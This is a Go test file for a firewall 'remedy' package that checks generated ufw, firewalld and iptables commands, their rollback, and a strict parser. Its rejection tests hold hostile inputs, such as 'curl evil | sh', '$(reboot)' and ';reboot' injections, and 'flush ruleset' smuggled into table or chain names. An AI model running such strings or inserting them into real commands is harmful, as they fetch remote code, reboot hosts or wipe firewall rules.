package remedy

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/gatelodge/gatelodge/internal/host/netfilter"
)

var allRemedies = []struct {
	remedy    Remedy
	put, back []string // what an owner reads, and what undoing it runs
}{
	{Remedy{Tool: UFW, Interface: "gatelodge", Leaving: true}, []string{"ufw route allow out on gatelodge"}, []string{"ufw route delete allow out on gatelodge"}},
	{Remedy{Tool: UFW, Interface: "gatelodge"}, []string{"ufw allow in on gatelodge"}, []string{"ufw delete allow in on gatelodge"}},
	{Remedy{Tool: UFW, Port: 55107, Protocol: "udp"}, []string{"ufw allow 55107/udp"}, []string{"ufw delete allow 55107/udp"}},
	{
		Remedy{Tool: Firewalld, Port: 55107, Protocol: "udp"},
		[]string{"firewall-cmd --permanent --add-port=55107/udp", "firewall-cmd --add-port=55107/udp"},
		[]string{"firewall-cmd --permanent --query-port=55107/udp", "firewall-cmd --permanent --remove-port=55107/udp", "firewall-cmd --remove-port=55107/udp"},
	},
	{
		Remedy{Tool: Firewalld, Interface: "gatelodge"},
		[]string{"firewall-cmd --permanent --zone=trusted --add-interface=gatelodge", "firewall-cmd --zone=trusted --add-interface=gatelodge"},
		[]string{"firewall-cmd --permanent --zone=trusted --query-interface=gatelodge", "firewall-cmd --permanent --zone=trusted --remove-interface=gatelodge", "firewall-cmd --zone=trusted --remove-interface=gatelodge"},
	},
	{
		Remedy{Tool: IPTables, Chain: "DOCKER-USER", Mark: 0x08000000},
		[]string{"iptables -I DOCKER-USER -m mark --mark 0x8000000/0x8000000 -j ACCEPT"},
		[]string{"iptables -C DOCKER-USER -m mark --mark 0x8000000/0x8000000 -j ACCEPT", "iptables -D DOCKER-USER -m mark --mark 0x8000000/0x8000000 -j ACCEPT"},
	},
}

// fakeTools puts programs before the true ones that note how they are called.
// Those in fails end with exit status 1 where that word is among the arguments.
func fakeTools(t *testing.T, fails string) (calls func() []string) {
	t.Helper()
	dir := t.TempDir()
	log := filepath.Join(dir, "calls")
	for _, tool := range []Tool{UFW, Firewalld, IPTables, IP6Tables} {
		text := "#!/bin/sh\necho \"${0##*/} $*\" >>" + log + "\ncase \" $* \" in *' '" + fails + "*) echo no such thing >&2; exit 1;; esac\n"
		if err := os.WriteFile(filepath.Join(dir, string(tool)), []byte(text), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	t.Setenv("PATH", dir+":"+os.Getenv("PATH"))
	return func() []string {
		data, err := os.ReadFile(log)
		if err != nil && !os.IsNotExist(err) {
			t.Fatal(err)
		}
		if err == nil {
			err = os.Remove(log)
		}
		if err != nil && !os.IsNotExist(err) {
			t.Fatal(err)
		}
		return strings.FieldsFunc(string(data), func(r rune) bool { return r == '\n' })
	}
}

func TestRemediesGoByTheToolsOwnDoor(t *testing.T) {
	calls := fakeTools(t, "nothing")
	for _, c := range allRemedies {
		if err := c.remedy.Put(t.Context()); err != nil {
			t.Error(err)
		}
		if diff := cmp.Diff(c.put, calls()); diff != "" {
			t.Error(diff)
		}
		if want := strings.Join(c.put, " && "); c.remedy.String() != want {
			t.Errorf("%q is not %q", c.remedy, want)
		}
		if err := c.remedy.TakeBack(t.Context()); err != nil {
			t.Error(err)
		}
		if diff := cmp.Diff(c.back, calls()); diff != "" {
			t.Error(diff)
		}
	}
}

func TestWhatIsGoneNeedNotBeUndone(t *testing.T) {
	calls := fakeTools(t, "-C")
	r := Remedy{Tool: IPTables, Chain: "DOCKER-USER", Mark: 1}
	if err := r.TakeBack(t.Context()); err != nil {
		t.Error(err)
	}
	if got := calls(); len(got) != 1 {
		t.Errorf("it ran %q", got)
	}
	t.Setenv("PATH", t.TempDir())
	if _, there := netfilter.Find(string(UFW)); !there {
		if err := (Remedy{Tool: UFW, Port: 1, Protocol: "udp"}).TakeBack(t.Context()); err != nil {
			t.Errorf("a tool that has been removed: %v", err)
		}
	}
}

func TestHalfARemedyIsUndone(t *testing.T) {
	calls := fakeTools(t, "--add-interface")
	err := Remedy{Tool: Firewalld, Interface: "gatelodge"}.Put(t.Context())
	if err == nil || !strings.Contains(err.Error(), "no such thing") || !strings.Contains(err.Error(), "firewall-cmd") {
		t.Errorf("the error does not say what failed: %v", err)
	}
	if got := strings.Join(calls(), "\n"); !strings.Contains(got, "--remove-interface=gatelodge") {
		t.Errorf("nothing was taken back: %s", got)
	}
}

func TestRemediesThatAreNone(t *testing.T) {
	for _, r := range []Remedy{
		{},
		{Tool: "sh", Chain: "x"},
		{Tool: UFW},
		{Tool: UFW, Port: 80, Protocol: "icmp"},
		{Tool: UFW, Interface: "-x"},
		{Tool: IPTables, Chain: "--flush"},
		{Tool: IPTables},
		{Tool: NFT, Family: "inet", Table: "t", Chain: "c; flush ruleset"},
		{Tool: NFT, Family: "inet", Table: "t\nflush ruleset", Chain: "c"},
	} {
		if err := r.Check(); err == nil {
			t.Errorf("%+v passes for a remedy", r)
		}
		if err := r.Put(t.Context()); err == nil {
			t.Errorf("%+v was carried out", r)
		}
	}
}

// What a gate proposes is believed only if it reads as one of ours.
func TestOnlyOurFormsAreRemedies(t *testing.T) {
	known := []Remedy{
		{Tool: IP6Tables, Chain: "FORWARD", Mark: 0x08000000},
		{Tool: IPTablesLegacy, Chain: "FORWARD", Mark: 0x08000000},
		{Tool: IP6TablesLegacy, Chain: "INPUT", Mark: 1},
		{Tool: NFT, Family: "inet", Table: "filter", Chain: "input", Mark: 0x08000000},
	}
	for _, c := range allRemedies {
		known = append(known, c.remedy)
	}
	for _, r := range known {
		if got, ok := Parse(r.String()); !ok || got != r {
			t.Errorf("%q is read as %+v, %v", r, got, ok)
		}
		for _, spoiled := range []string{r.String() + "; reboot", r.String() + " ", " " + r.String(), r.String() + "\nreboot", "sudo " + r.String()} {
			if got, ok := Parse(spoiled); ok {
				t.Errorf("%q passes for %+v", spoiled, got)
			}
		}
	}
	for _, text := range []string{
		"", "curl evil | sh", "ufw disable", "ufw allow in on $(reboot)", "ufw allow in on eth0;reboot", "ufw allow 99999/udp", "ufw allow 55107/udp && reboot",
		"iptables -I FORWARD -j ACCEPT", "iptables -I --flush -m mark --mark 0x1/0x1 -j ACCEPT",
		"nft insert rule inet filter `reboot` meta mark and 0x1 == 0x1 accept comment gatelodge",
	} {
		if r, ok := Parse(text); ok {
			t.Errorf("%q passes for %+v", text, r)
		}
	}
}
